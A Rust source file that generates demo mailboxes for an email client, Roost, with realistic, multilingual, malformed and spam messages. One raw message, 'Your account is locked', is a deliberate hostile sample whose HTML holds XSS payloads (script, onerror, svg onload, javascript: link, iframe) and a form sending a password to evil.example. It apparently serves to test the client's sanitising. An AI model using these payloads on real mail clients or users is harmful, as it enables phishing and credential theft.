//! Mail worth looking at: what people really have in their mailboxes, the odd and the hostile included.

use super::Delivered;
use super::message::{Message, nested, part, pdf, png};

/// The newest message of the demo: 22 November 2026, 18:00 UTC.
const NOW: u64 = 1_795_370_400;
const HOUR: u64 = 3_600;
const DAY: u64 = 24 * HOUR;
const ALICE: &str = "Alice Martin <alice@roost.test>";

fn at(ago: u64, flags: &'static str, message: Message) -> Delivered {
    Delivered {
        raw: message.sent(NOW - ago).build(),
        time: NOW - ago,
        flags,
    }
}

fn raw(ago: u64, flags: &'static str, text: &str) -> Delivered {
    Delivered {
        raw: text.as_bytes().to_vec(),
        time: NOW - ago,
        flags,
    }
}

fn to_alice(from: &str, subject: &str) -> Message {
    Message::new(from, ALICE, subject)
}

fn newsletter() -> String {
    let article = |title: &str, text: &str, image: u32| {
        format!(
            "<tr><td style='padding:16px 24px'><img src='https://images.newsletter.example/{image}.jpg' width='552' alt='{title}'>\
             <h2 style='margin:12px 0 4px;font:600 20px Georgia,serif;color:#23395b'>{title}</h2>\
             <p style='margin:0;font:15px/1.6 Georgia,serif;color:#444'>{text}</p>\
             <p><a href='https://newsletter.example/{image}' style='color:#b3402a;font:600 14px Arial'>Read on →</a></p></td></tr>"
        )
    };
    format!(
        "<html><head><style>.wrap{{background:#f3efe6}} @media (max-width:600px){{.card{{width:100%!important}}}}</style></head>\
         <body class='wrap' style='margin:0;background:#f3efe6'><table class='card' width='600' align='center' cellpadding='0' cellspacing='0' \
         style='background:#ffffff;border-radius:8px;margin:24px auto'><tr><td style='padding:28px 24px;background:#23395b;border-radius:8px 8px 0 0'>\
         <h1 style='margin:0;font:700 28px Georgia,serif;color:#fff'>The Slow Letter</h1>\
         <p style='margin:4px 0 0;color:#c6d3e6;font:14px Arial'>Sunday reading, no. 214</p></td></tr>{}{}{}\
         <tr><td style='padding:16px 24px;color:#888;font:12px Arial'>You get this because you subscribed. \
         <a href='https://newsletter.example/unsubscribe'>Unsubscribe</a><img src='https://track.newsletter.example/open.gif' width='1' height='1' alt=''></td></tr></table></body></html>",
        article(
            "Why lighthouses blink",
            "Every light has a signature of its own, and once sailors knew them by heart.",
            1
        ),
        article(
            "Bread in four hours",
            "A loaf for people who decide at noon that there should be bread for supper.",
            2
        ),
        article(
            "A library under a bridge",
            "Forty thousand volumes, one stove, and a cat who decides who may borrow what.",
            3
        ),
    )
}

pub fn inbox() -> Vec<Delivered> {
    let photo = |r, g, b| png(320, 200, [r, g, b], [240, 220, 190]);
    let mut all = vec![
        at(400 * DAY, "S", to_alice("Grandma <rose@family.example>", "Happy birthday!").plain("Dear Alice,\n\nhappy birthday! The cake recipe you asked for is in the attic, I will look for it on Sunday.\n\nLove,\nGrandma\n")),
        at(40 * DAY, "S", to_alice("City Library <loans@library.example>", "Your loans are due soon").plain("Two items are due on Friday:\n\n  * The Summer Book\n  * A Field Guide to Birds\n\nRenew at https://library.example/account\n")),
        at(21 * DAY, "FS", to_alice("Ravi Kapoor <ravi@kapoor-architects.example>", "Contract and plans").multipart("mixed", &[
            part("text/plain; charset=utf-8", "", "Hi Alice,\n\nthe signed contract and the ground plan are attached. The third file is the view from the garden.\n\nBest,\nRavi\n".as_bytes()),
            part("application/pdf; name=\"Contract 2026.pdf\"", "Content-Disposition: attachment; filename=\"Contract 2026.pdf\"\n", &pdf("Contract between A. Martin and Kapoor Architects")),
            part("application/pdf", "Content-Disposition: attachment; filename*=utf-8''Grundri%C3%9F%20Erdgescho%C3%9F.pdf\n", &pdf("Ground plan")),
            part("image/png; name=garden.png", "Content-Disposition: attachment; filename=garden.png\n", &photo(60, 130, 80)),
        ])),
        at(9 * DAY, "S", to_alice("The Slow Letter <letter@newsletter.example>", "Why lighthouses blink · Bread in four hours").alternative("The Slow Letter, no. 214\n\nWhy lighthouses blink\nBread in four hours\nA library under a bridge\n", &newsletter())),
        at(8 * DAY, "", to_alice("משה לוי <moshe@example.org>", "פגישה ביום שלישי").plain("שלום אליס,\n\nנפגש ביום שלישי בשעה 10:00 במשרד (קומה 3, Room B).\nהמסמכים מצורפים.\n\nבברכה,\nמשה\n")),
        at(7 * DAY, "", to_alice("中村 さくら <sakura@example.org>", "来週の打ち合わせについて").plain("アリス様\n\nお世話になっております。来週の打ち合わせは水曜日の午後3時からでいかがでしょうか。\n\nよろしくお願いいたします。\n中村\n")),
        at(6 * DAY, "S", to_alice("Ольга Петрова <olga@example.org>", "Фотографии с конференции").plain("Привет, Алиса!\n\nФотографии с конференции лежат здесь: https://photos.example.org/conf\n\nДо встречи,\nОльга\n")),
        at(5 * DAY, "", to_alice("فاطمة الزهراء <fatima@example.org>", "دعوة لحضور المعرض").plain("عزيزتي أليس،\n\nيسرنا دعوتك لحضور افتتاح المعرض يوم الخميس الساعة 19:00.\n\nمع أطيب التحيات\n")),
        at(3 * DAY, "", to_alice("Jonas Weber <jonas@weber.example>", "Invitation: Planning, Tue 14:00").multipart("mixed", &[
            nested("alternative", "invite", &[
                part("text/plain; charset=utf-8", "", b"Planning on Tuesday at 14:00 in the small room.\n"),
                part("text/calendar; method=REQUEST; charset=utf-8", "", b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:planning-1\r\nDTSTART:20261124T140000Z\r\nDTEND:20261124T150000Z\r\nSUMMARY:Planning\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"),
            ]),
        ])),
        at(2 * DAY, "S", to_alice("Chiara Rossi <chiara@rossi.example>", "Fwd: The apartment in Trieste").multipart("mixed", &[
            part("text/plain; charset=utf-8", "", b"Look what I found! The original is attached.\n\nChiara\n"),
            format!("Content-Type: message/rfc822\nContent-Disposition: attachment; filename=\"The apartment.eml\"\n\n{}", String::from_utf8_lossy(
                &Message::new("Agency <info@casa.example>", "chiara@rossi.example", "The apartment in Trieste").sent(NOW - 4 * DAY).plain("Three rooms, a balcony, and the sea behind the roofs.\n").build())),
        ])),
        at(30 * HOUR, "", to_alice("Photo Club <club@photo.example>", "Autumn walk: the best of 61 pictures").multipart("related", &[
            part("text/html; charset=utf-8", "", b"<p style='font:16px Georgia'>Here are the two that everybody voted for.</p><p><img src='cid:one@photo' alt='Fog over the river'><br><i>Fog over the river</i></p><p><img src='cid:two@photo' alt='The red beech'><br><i>The red beech</i></p>"),
            part("image/png; name=fog.png", "Content-ID: <one@photo>\nContent-Disposition: inline; filename=fog.png\n", &photo(90, 110, 130)),
            part("image/png; name=beech.png", "Content-ID: <two@photo>\nContent-Disposition: inline; filename=beech.png\n", &photo(150, 60, 40)),
        ])),
        raw(26 * HOUR, "", "From: Broken Mailer <broken@example.org\nTo: alice@roost.test\nSubject: =?utf-8?Q?A_broken_=C3?= =?utf-8?Q?=A9_word?=\nContent-Type: multipart/mixed; boundary=never\n\nThe boundary never comes, and the address is not closed.\n"),
        raw(25 * HOUR, "", "From: \"Your Bank security@bank.example\" <phisher@evil.example>\nTo: alice@roost.test\nSubject: Your account is locked\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n<div style=\"position:fixed;inset:0;background:url(https://evil.example/bg.png)\"><script>document.title='owned'</script><img src=x onerror=\"parent.document.body.innerHTML='owned'\"><form action=\"https://evil.example/steal\">Password: <input name=p autofocus><button>Unlock</button></form><a href=\"javascript:alert(1)\">https://bank.example</a><svg onload=alert(1)></svg><iframe src=\"https://evil.example\"></iframe></div><p>Dear customer, please confirm your password.</p>\n"),
    ];
    for (index, (from, text)) in [
        (
            "Maya Cohen <maya@garden.example>",
            "Shall we plant the tulips on Saturday? I have two hundred bulbs.",
        ),
        (
            "Ben Archer <ben@garden.example>",
            "Saturday works. I bring the spades.",
        ),
        (
            "Alice Martin <alice@roost.test>",
            "I come at ten and bring soup.",
        ),
        (
            "Maya Cohen <maya@garden.example>",
            "Then we start at ten with soup.",
        ),
        (
            "Ben Archer <ben@garden.example>",
            "Rain is announced for the afternoon, so let us be quick.",
        ),
        (
            "Lena Horvat <lena@garden.example>",
            "May I join? I have gloves and no plans.",
        ),
        (
            "Maya Cohen <maya@garden.example>",
            "Of course! Two hundred bulbs are waiting.",
        ),
    ]
    .iter()
    .enumerate()
    {
        let ago = 20 * HOUR - index as u64 * 2 * HOUR;
        let quote = "> Shall we plant the tulips on Saturday?\n> I have two hundred bulbs.\n";
        let subject = if index == 0 {
            "Tulips on Saturday"
        } else {
            "Re: Tulips on Saturday"
        };
        let mut message = Message::new(from, "Garden <garden@roost.test>", subject);
        if index > 0 {
            message = message.header(
                "In-Reply-To",
                &format!("<{}.roost@example.org>", NOW - 20 * HOUR),
            );
        }
        all.push(at(
            ago,
            if index < 4 { "S" } else { "" },
            message.plain(&format!("{text}\n\n{quote}")),
        ));
    }
    all.push(at(4 * HOUR, "", to_alice("Build Server <ci@build.example>", "[roost] main is green: 412 tests, a subject line that goes on and on because the commit message had to be part of it as well").plain("All 412 tests passed in 6 minutes.\n\nCommit: 4f2a9c1 \"Look at the list before it is asked for\"\nhttps://build.example/roost/1842\n")));
    all.push(at(2 * HOUR, "", to_alice("Emre Yılmaz <emre@example.org>", "Dinner on Friday?").alternative("Hi Alice,\n\nthe new place by the harbour has a table at eight. Shall I take it?\n\nEmre\n", "<p>Hi Alice,</p><p>the <b>new place by the harbour</b> has a table at eight. Shall I take it?</p><p>Emre</p>")));
    all.push(at(0, "", to_alice("Roost <hello@roost.test>", "Welcome to Roost").plain("Welcome!\n\nThis is the demo of Roost. Everything you do here happens on a private mail server that runs on this machine only.\n\nSome things to try:\n\n  * press ? to see the keys\n  * open Lists / Everything: 20,000 messages\n  * open this page in a second window, and star or move a message in one of them\n  * look at the hostile message \"Your account is locked\"\n  * make the window narrow, or open it on a phone\n\nHave fun.\n")));
    all
}

pub fn archive() -> Vec<Delivered> {
    (0..40)
        .map(|n| {
            at(
                (60 + n * 5) * DAY,
                "S",
                to_alice(
                    "Energy Works <bills@energy.example>",
                    &format!("Your bill no. {}", 2000 - n),
                )
                .multipart(
                    "mixed",
                    &[
                        part("text/plain; charset=utf-8", "", b"Your bill is attached.\n"),
                        part(
                            "application/pdf; name=bill.pdf",
                            "Content-Disposition: attachment; filename=bill.pdf\n",
                            &pdf("Bill"),
                        ),
                    ],
                ),
            )
        })
        .collect()
}

pub fn sent() -> Vec<Delivered> {
    vec![
        at(
            19 * HOUR,
            "S",
            Message::new(
                ALICE,
                "Garden <garden@roost.test>",
                "Re: Tulips on Saturday",
            )
            .plain("I come at ten and bring soup.\n"),
        ),
        at(
            22 * DAY,
            "S",
            Message::new(
                ALICE,
                "Ravi Kapoor <ravi@kapoor-architects.example>",
                "The plans",
            )
            .plain("Dear Ravi,\n\ncould you send me the plans?\n\nAlice\n"),
        ),
    ]
}

pub fn junk() -> Vec<Delivered> {
    vec![
        at(5 * HOUR, "", to_alice("WINNER <prize@lottery.example>", "You have won 1,000,000").html("<h1 style='color:red'>CONGRATULATIONS</h1><img src='https://lottery.example/t.gif'><p>Send us your bank details.</p>")),
        at(3 * DAY, "", to_alice("Cheap Watches <watches@spam.example>", "90% off today only").plain("Buy now.\n")),
    ]
}

pub fn projects() -> Vec<Delivered> {
    (0..6)
        .map(|n| {
            at(
                (10 + n) * DAY,
                "S",
                to_alice(
                    "Kaja Nowak <kaja@example.org>",
                    &format!("Report, version {n}"),
                )
                .plain("The new version is on the drive.\n"),
            )
        })
        .collect()
}

pub fn travel() -> Vec<Delivered> {
    vec![at(
        14 * DAY,
        "FS",
        to_alice(
            "Night Trains <tickets@trains.example>",
            "Your ticket to Trieste",
        )
        .plain("Coach 23, berth 61. Departure 20:42, platform 8.\n"),
    )]
}
